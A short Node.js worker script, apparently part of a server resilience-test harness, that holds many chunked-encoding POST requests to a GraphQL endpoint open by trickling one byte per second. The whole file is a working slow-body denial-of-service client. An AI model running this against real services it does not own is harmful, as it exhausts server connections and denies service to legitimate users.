// A client that begins bodies without a length and sends a byte of each every second. A thread of its own, which ends
// when it is terminated: see attacks.mjs.
import { connect } from 'node:net';
import { workerData } from 'node:worker_threads';

const FIRST_BYTES = 0x118000;

const { url, authorization, bodies } = workerData;
const { hostname, port } = new URL(url);
const HEAD = [
  'POST /graphql HTTP/1.1',
  'Host: x',
  `Authorization: ${authorization}`,
  'Content-Type: application/json',
  'Transfer-Encoding: chunked',
].join('\r\n');

const sockets = Array.from({ length: bodies }, () => {
  const socket = connect(Number(port), hostname).on('error', () => undefined);
  socket.write(`${HEAD}\r\n\r\n${FIRST_BYTES.toString(16)}\r\n${' '.repeat(FIRST_BYTES)}\r\n`);
  return socket;
});
setInterval(() => sockets.forEach(socket => socket.writable && socket.write('1\r\n \r\n')), 1000);
